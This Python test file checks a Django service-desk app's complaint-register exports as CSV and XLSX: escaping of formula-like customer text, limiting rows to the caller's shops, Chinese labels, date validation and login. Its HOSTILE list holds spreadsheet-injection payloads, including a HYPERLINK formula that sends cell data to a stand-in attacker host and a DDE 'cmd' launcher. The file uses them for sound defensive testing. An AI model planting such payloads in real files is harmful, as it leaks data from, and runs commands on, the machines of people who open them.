"""The complaint register, as CSV and XLSX from the list page and over the API: the same rows
and columns in each, safe to open in a spreadsheet program (customers' words that look like
formulas come out as text, OWASP CSV injection), the caller's shops only."""

import csv
import io
from decimal import Decimal

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from complaints import services
from complaints.register import TO_BEFORE_FROM
from servicedesk.accounts.models import Profile
from servicedesk.exports import XLSX_CONTENT_TYPE
from tests.complaints.factories import ComplaintFactory

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd",
    "-2+3",
]


def _rows(browser, day):
    r = browser.get(f"/complaints/register.csv?received_from={day}&received_to={day}")
    assert r.status_code == 200
    return list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))


def test_customers_words_that_look_like_formulas_come_out_as_text(browser_as, advisor, shop):
    complaints = [
        ComplaintFactory(shop=shop, user=advisor, customer_words=words) for words in HOSTILE
    ]
    day = timezone.localtime(complaints[0].received_at).date()
    words = {row[0]: row[-1] for row in _rows(browser_as(advisor), day)[1:]}
    for complaint, hostile in zip(complaints, HOSTILE, strict=True):
        assert words[complaint.number] == "'" + hostile


def test_plain_words_and_amounts_are_left_alone(browser_as, advisor, shop):
    complaint = ComplaintFactory(shop=shop, user=advisor, customer_words="Brakes squeal - again")
    day = timezone.localtime(complaint.received_at).date()
    row = _rows(browser_as(advisor), day)[1]
    assert row[-1] == "Brakes squeal - again" and row[-2] == "0"


def _sheet(content: bytes):
    book = load_workbook(io.BytesIO(content))
    assert len(book.sheetnames) == 1
    return [[cell.value for cell in row] for row in book.active.iter_rows()]


def _day(complaint):
    return timezone.localtime(complaint.received_at).date()


def test_the_list_page_offers_the_register_as_csv_and_xlsx(browser_as, advisor):
    page = browser_as(advisor).get("/complaints/").content.decode()
    assert 'action="/complaints/register.csv"' in page
    assert 'formaction="/complaints/register.xlsx"' in page
    assert "Download CSV" in page and "Download XLSX" in page


def test_the_list_page_offers_them_in_chinese(browser_as, advisor):
    Profile.objects.create(user=advisor, language="zh-hans")
    page = browser_as(advisor).get("/complaints/", HTTP_ACCEPT_LANGUAGE="zh-hans")
    assert "下载 XLSX" in page.content.decode()


def test_the_xlsx_has_the_csvs_rows_and_columns(browser_as, advisor, manager, shop):
    first = ComplaintFactory(shop=shop, user=advisor, customer_words="=1+2 squeal")
    second = ComplaintFactory(shop=shop, user=advisor, customer_words="周先生：刹车异响")
    remedy = services.remedy_propose(
        complaint_pk=second.pk, user=advisor, kind="apology", amount="50.50"
    )
    assert remedy.agreed
    day = _day(first)
    browser = browser_as(advisor)
    query = f"received_from={day}&received_to={day}"
    rows = _rows(browser, day)
    response = browser.get(f"/complaints/register.xlsx?{query}")
    assert response.status_code == 200
    assert response["Content-Type"] == XLSX_CONTENT_TYPE
    assert f'filename="complaints-{day}-{day}.xlsx"' in response["Content-Disposition"]
    sheet = _sheet(response.content)
    assert sheet[0] == rows[0]
    assert [r[0] for r in sheet[1:]] == [r[0] for r in rows[1:]] == [first.number, second.number]
    # Text is the CSV's text; moments and money are typed cells.
    assert sheet[1][-1] == rows[1][-1] == "'=1+2 squeal"
    assert sheet[2][-1] == "周先生：刹车异响"
    assert sheet[2][-2] == Decimal("50.50") or sheet[2][-2] == pytest.approx(50.5)
    assert rows[2][-2] == "50.50"
    assert sheet[1][2].strftime("%Y-%m-%d %H:%M") == rows[1][2]


def test_wrong_dates_go_back_to_the_list_with_a_message(browser_as, advisor):
    response = browser_as(advisor).get("/complaints/register.xlsx?received_from=x", follow=True)
    assert response.redirect_chain[-1][0] == "/complaints/"
    assert "Choose the first and last day of the register." in response.content.decode()


def test_the_register_leaves_out_other_shops(browser_as, advisor, outsider, other_shop, shop):
    mine = ComplaintFactory(shop=shop, user=advisor)
    ComplaintFactory(shop=other_shop, user=outsider)
    day = _day(mine)
    sheet = _sheet(
        browser_as(advisor)
        .get(f"/complaints/register.xlsx?received_from={day}&received_to={day}")
        .content
    )
    assert [r[0] for r in sheet[1:]] == [mine.number]


# --- the API -----------------------------------------------------------------------------------


def test_the_api_answers_the_register_as_csv_by_default(api_as, reporting, advisor, shop):
    complaint = ComplaintFactory(shop=shop, user=advisor, customer_words="@SUM(A1)")
    day = _day(complaint)
    response = api_as(reporting).get(f"/api/v1/complaints/register/?from={day}&to={day}")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert f'filename="complaints-{day}-{day}.csv"' in response["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[1][0] == complaint.number and rows[1][-1] == "'@SUM(A1)"


def test_the_api_answers_the_register_as_xlsx(api_as, reporting, advisor, shop, other_shop):
    complaint = ComplaintFactory(shop=shop, user=advisor)
    ComplaintFactory(shop=other_shop)
    day = _day(complaint)
    response = api_as(reporting).get(
        f"/api/v1/complaints/register/?from={day}&to={day}&format=xlsx"
    )
    assert response.status_code == 200
    assert response["Content-Type"] == XLSX_CONTENT_TYPE
    sheet = _sheet(response.content)
    assert [r[0] for r in sheet[1:]] == [complaint.number]


def test_the_api_register_reads_in_the_asked_language(api_as, reporting, advisor, shop):
    complaint = ComplaintFactory(shop=shop, user=advisor)
    day = _day(complaint)
    response = api_as(reporting).get(
        f"/api/v1/complaints/register/?from={day}&to={day}&format=xlsx",
        HTTP_ACCEPT_LANGUAGE="zh-hans",
    )
    book = load_workbook(io.BytesIO(response.content))
    assert book.sheetnames == ["投诉登记表"]
    assert book.active["A1"].value == "编号"


@pytest.mark.parametrize(
    ("query", "field"),
    [("", "from"), ("from=2026-01-01", "to"), ("from=x&to=2026-01-01", "from")],
)
def test_the_api_register_needs_both_days(api_as, reporting, query, field):
    response = api_as(reporting).get(f"/api/v1/complaints/register/?{query}&format=xlsx")
    assert response.status_code == 400
    assert field in response.json()


def test_the_api_register_refuses_a_last_day_before_the_first(api_as, reporting):
    response = api_as(reporting).get("/api/v1/complaints/register/?from=2026-02-01&to=2026-01-31")
    assert response.status_code == 400
    assert response.json()["to"] == [str(TO_BEFORE_FROM)]


def test_the_api_register_needs_a_login(api):
    assert api.get("/api/v1/complaints/register/?from=2026-01-01&to=2026-01-31").status_code == 401
